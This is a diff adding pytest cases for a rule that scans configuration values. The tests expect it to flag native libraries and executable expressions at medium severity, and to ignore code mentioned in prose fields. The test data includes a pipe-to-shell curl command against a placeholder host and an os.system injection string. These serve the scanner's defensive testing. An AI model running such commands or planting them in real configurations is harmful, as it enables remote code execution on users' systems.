@@ -151,3 +151,22 @@ def test_an_unknown_class_to_import_is_doubted(key: str, target: str) -> None:
 )  # fmt: skip
 def test_other_dotted_words_stay_quiet(key: str, text: str) -> None:
     assert list(RULE.apply(value("dotted-name", text, path=f"$.{key}"))) == []
+
+
+@pytest.mark.parametrize(
+    ("key", "text", "path"),
+    [
+        ("native-library", "./x.so", "$.engine"), ("native-library", "x.dll", "$.plugins"),
+        ("expression", "__import__('os').system('id')", "$.activation"),
+        ("expression", "curl https://example.invalid | sh", "$.cmd"),
+    ],
+)  # fmt: skip
+def test_libraries_and_expressions_are_doubted(key: str, text: str, path: str) -> None:
+    (finding,) = RULE.apply(value(key, text, path=path))
+
+    assert finding.severity is Severity.MEDIUM
+
+
+@pytest.mark.parametrize("path", ["$.prompt", "$.description", "$.example_text", "$.content"])
+def test_what_people_write_about_code_stays_quiet(path: str) -> None:
+    assert list(RULE.apply(value("expression", "eval(input())", path=path))) == []
